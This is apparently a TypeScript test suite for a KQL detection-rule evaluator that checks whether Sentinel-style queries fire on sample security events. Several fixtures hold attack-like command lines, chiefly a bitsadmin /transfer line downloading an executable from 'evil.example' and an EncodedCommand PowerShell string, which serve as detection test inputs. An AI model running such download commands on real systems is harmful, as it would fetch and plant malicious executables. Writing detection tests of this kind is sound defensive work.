import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { load } from 'js-yaml';
import { recogniseLog } from '../../evaluate/event-log.js';
import { PreparedEvent, evaluateRule } from '../../evaluate/rule.js';
import type { Evaluation } from '../../evaluate/types.js';
import { hasTerm } from './evaluate.js';
import { kql } from './index.js';

/** `logType` null: the event's table is not named. */
function run(query: string, event: unknown, logType: string | null = 'T'): Evaluation {
  const analysis = kql.analyse(query, {});
  assert.ok(analysis.parsed, JSON.stringify(analysis.diagnostics));
  const rule = { language: 'kql', stages: analysis.stages, sources: analysis.sources, parsed: analysis.parsed };
  return evaluateRule(rule, new PreparedEvent(event, recogniseLog(event, logType ?? undefined)), { trace: true });
}

/** `T | where <condition>` on the event. */
const fires = (condition: string, event: Record<string, unknown>) => run(`T | where ${condition}`, event).fires;

describe('KQL evaluation: operators', () => {
  it('== and != with case, =~ and !~ without', () => {
    const e = { Name: 'Cmd.exe' };
    assert.equal(fires('Name == "Cmd.exe"', e), 'yes');
    assert.equal(fires('Name == "cmd.exe"', e), 'no');
    assert.equal(fires('Name =~ "CMD.EXE"', e), 'yes');
    assert.equal(fires('Name != "cmd.exe"', e), 'yes');
    assert.equal(fires('Name !~ "cmd.EXE"', e), 'no');
    assert.equal(fires('tolower(Name) == "cmd.exe"', e), 'yes');
  });

  it('numbers compare as numbers, also given as strings', () => {
    assert.equal(fires('EventID == 4688', { EventID: '4688' }), 'yes');
    assert.equal(fires('EventID > 4000 and EventID <= 4688', { EventID: 4688 }), 'yes');
    assert.equal(fires('EventID < 4000', { EventID: 4688 }), 'no');
    assert.equal(fires('Port between (1000 .. 2000)', { Port: '2000' }), 'yes');
    assert.equal(fires('Port between (1000 .. 2000)', { Port: 2001 }), 'no');
    assert.equal(fires('Port !between (1000 .. 2000)', { Port: 2001 }), 'yes');
    // Not a number: Kusto's null, false negated or not.
    assert.equal(fires('Port !between (1000 .. 2000)', { Port: 'x' }), 'no');
    assert.equal(fires('Port > 5', {}), 'no');
  });

  it('has: whole terms of ASCII letters and digits', () => {
    assert.equal(hasTerm('c:\\windows\\cmd.exe /c', 'cmd.exe'), true);
    assert.equal(hasTerm('c:\\windows\\xcmd.exe', 'cmd.exe'), false);
    assert.equal(hasTerm('north_america', 'america'), true);
    assert.equal(hasTerm('northamerica', 'america'), false);
    assert.equal(hasTerm('a -enc b', ' -enc '), true);
    const e = { CommandLine: 'powershell.exe -EncodedCommand AAAA' };
    assert.equal(fires('CommandLine has "powershell"', e), 'yes');
    assert.equal(fires('CommandLine has "power"', e), 'no');
    assert.equal(fires('CommandLine has "ENCODEDCOMMAND"', e), 'yes');
    assert.equal(fires('CommandLine has_cs "encodedcommand"', e), 'no');
    assert.equal(fires('CommandLine !has "encoded"', e), 'yes');
    assert.equal(fires('CommandLine hasprefix "encod"', e), 'yes');
    assert.equal(fires('CommandLine hassuffix "shell"', e), 'yes');
    assert.equal(fires('CommandLine hassuffix "power"', e), 'no');
  });

  it('has_any and has_all', () => {
    const e = { CommandLine: 'bitsadmin /transfer job http://x/a.exe c:\\a.exe' };
    assert.equal(fires('CommandLine has_any ("/addfile", "/transfer")', e), 'yes');
    assert.equal(fires('CommandLine has_any ("/addfile", "/create")', e), 'no');
    assert.equal(fires('CommandLine has_all ("bitsadmin", "transfer")', e), 'yes');
    assert.equal(fires('CommandLine has_all ("bitsadmin", "create")', e), 'no');
  });

  it('contains, startswith, endswith and their _cs forms; negations', () => {
    const e = { Path: 'C:\\Windows\\System32\\cmd.exe' };
    assert.equal(fires('Path contains "system32"', e), 'yes');
    assert.equal(fires('Path contains_cs "system32"', e), 'no');
    assert.equal(fires('Path startswith "c:\\\\windows"', e), 'yes');
    assert.equal(fires('Path startswith_cs "c:\\\\windows"', e), 'no');
    assert.equal(fires('Path endswith "CMD.EXE"', e), 'yes');
    assert.equal(fires('Path endswith_cs "CMD.EXE"', e), 'no');
    assert.equal(fires('Path !contains "temp"', e), 'yes');
    assert.equal(fires('Path !startswith "c:"', e), 'no');
  });

  it('in, in~ and !in, with let lists', () => {
    const e = { FileName: 'Rundll32.exe' };
    assert.equal(fires('FileName in ("rundll32.exe", "regsvr32.exe")', e), 'no');
    assert.equal(fires('FileName in~ ("rundll32.exe", "regsvr32.exe")', e), 'yes');
    assert.equal(fires('FileName !in ("rundll32.exe")', e), 'yes');
    assert.equal(fires('FileName !in~ ("rundll32.exe")', e), 'no');
    const q = 'let bins = dynamic(["rundll32.exe", "regsvr32.exe"]);\nT | where FileName in~ (bins)';
    assert.equal(run(q, e).fires, 'yes');
    assert.equal(run(q, { FileName: 'cmd.exe' }).fires, 'no');
  });

  it('matches regex: a search on RE2, with case', () => {
    const e = { Url: 'http://10.1.2.3/payload.ps1' };
    assert.equal(fires('Url matches regex @"\\d+\\.\\d+\\.\\d+\\.\\d+/"', e), 'yes');
    assert.equal(fires('Url matches regex "PAYLOAD"', e), 'no');
    const backref = run('T | where Url matches regex @"(a)\\1"', e);
    assert.equal(backref.fires, 'unknown');
    assert.match(backref.trace[0]!.note ?? '', /RE2/);
  });

  it('isempty / isnotempty / isnull: a missing column is empty, not null', () => {
    assert.equal(fires('isempty(Account)', { Account: '' }), 'yes');
    assert.equal(fires('isempty(Account)', {}), 'yes');
    assert.equal(fires('isnotempty(Account)', { Account: 'bob' }), 'yes');
    assert.equal(fires('isnotempty(Account)', {}), 'no');
    assert.equal(fires('isnull(Account)', {}), 'no');
    assert.equal(fires('isnull(AdditionalFields.Missing)', { AdditionalFields: {} }), 'yes');
    // A missing column compares as the empty string.
    assert.equal(fires('Account != "bob"', {}), 'yes');
    assert.equal(fires('Account == "bob"', {}), 'no');
  });

  it('dynamic fields and parse_json paths, also in a column holding JSON text', () => {
    const nested = { AdditionalFields: { Actor: { Name: 'eve' }, Targets: ['a', 'b'] } };
    const text = { AdditionalFields: JSON.stringify(nested.AdditionalFields) };
    for (const e of [nested, text]) {
      assert.equal(fires('AdditionalFields.Actor.Name == "eve"', e), 'yes');
      assert.equal(fires('parse_json(AdditionalFields).Actor.Name =~ "EVE"', e), 'yes');
      assert.equal(fires('tostring(AdditionalFields["Actor"]["Name"]) == "bob"', e), 'no');
      assert.equal(fires('tostring(AdditionalFields.Targets[1]) == "b"', e), 'yes');
      assert.equal(fires('AdditionalFields has "eve"', e), 'yes');
    }
  });

  it('a column compared with another column of the same event', () => {
    assert.equal(fires('Account == TargetAccount', { Account: 'a', TargetAccount: 'a' }), 'yes');
    assert.equal(fires('Account != TargetAccount', { Account: 'a', TargetAccount: 'a' }), 'no');
  });
});

describe('KQL evaluation: stages and unknown', () => {
  it('row-preserving stages change nothing; several where stages all filter', () => {
    const q = 'T | where A == 1 | extend B2 = B | project A, B2 | where B2 == "x" | take 10';
    assert.equal(run(q, { A: 1, B: 'x' }).fires, 'yes');
    assert.equal(run(q, { A: 1, B: 'y' }).fires, 'no');
  });

  it('a filter on a column computed by an earlier stage is unknown', () => {
    const r = run('T | extend L = strlen(CommandLine) | where L > 100', { CommandLine: 'x' });
    assert.equal(r.fires, 'unknown');
    assert.match(r.trace[0]!.note ?? '', /computed/);
    assert.equal(run('T | where strlen(CommandLine) > 100', { CommandLine: 'x' }).fires, 'unknown');
    // A false filter elsewhere still decides.
    assert.equal(run('T | extend L = strlen(CommandLine) | where L > 100 and A == 2', { CommandLine: 'x', A: 1 }).fires, 'no');
  });

  it('summarize thresholds, joins and externaldata are not evaluated', () => {
    const e = { A: 1, Account: 'x' };
    const summarized = run('T | where A == 1 | summarize n = count() by Account | where n > 5', e);
    assert.equal(summarized.fires, 'unknown');
    assert.deepEqual(
      summarized.unevaluated.map((g) => g.what),
      ['aggregation', 'threshold'],
    );
    assert.equal(run('T | where A == 2 | summarize count() by Account', e).fires, 'no');
    const joined = run('T | where A == 1 | join kind=inner (U | where B == 2) on Account', e);
    assert.equal(joined.fires, 'unknown');
    assert.ok(joined.unevaluated.some((g) => g.what === 'join'));
    const external = run(
      'let ips = externaldata(ip: string) [@"https://example.com/ips.txt"];\nT | where A == 1 | where Account in (ips)',
      e,
    );
    assert.equal(external.fires, 'unknown');
  });

  it('the event must be a row of the table the rule reads', () => {
    const q = 'SecurityEvent | where EventID == 4688';
    assert.equal(run(q, { EventID: 4688 }, 'SecurityEvent').fires, 'yes');
    assert.equal(run(q, { EventID: 4688 }, 'securityevent').fires, 'yes');
    assert.equal(run(q, { EventID: 4688 }, 'DeviceProcessEvents').fires, 'no');
    assert.equal(run(q, { EventID: 4688 }, null).fires, 'unknown');
    assert.equal(run('union SecurityEvent, WindowsEvent | where EventID == 4688', { EventID: 4688 }, 'WindowsEvent').fires, 'yes');
    // An ASIM parser reads tables we do not know.
    assert.equal(run('imProcessCreate | where EventID == 4688', { EventID: 4688 }, 'SecurityEvent').fires, 'unknown');
  });
});

describe('KQL evaluation: a real Sentinel rule', () => {
  const corpus = fileURLToPath(new URL('../../../../shared/corpus', import.meta.url));
  const path = join(corpus, 'sentinel/Solutions/Microsoft Defender XDR/Analytic Rules/Execution/BITSAdminActivity.yaml');
  it('BITSAdmin activity fires on a bitsadmin /transfer process event, not on bitsadmin /list', { skip: !existsSync(path) }, () => {
    const query = (load(readFileSync(path, 'utf8')) as { query: string }).query;
    const event = {
      DeviceName: 'ws1.contoso.com',
      FileName: 'bitsadmin.exe',
      ProcessCommandLine: 'bitsadmin.exe /transfer job /download http://evil.example/a.exe C:\\Users\\bob\\a.exe',
    };
    const hit = run(query, event, 'DeviceProcessEvents');
    assert.equal(hit.fires, 'yes', JSON.stringify(hit, null, 1));
    assert.equal(run(query, { ...event, ProcessCommandLine: 'bitsadmin.exe /list /allusers' }, 'DeviceProcessEvents').fires, 'no');
    assert.equal(run(query, event, 'SecurityEvent').fires, 'no');
  });
});
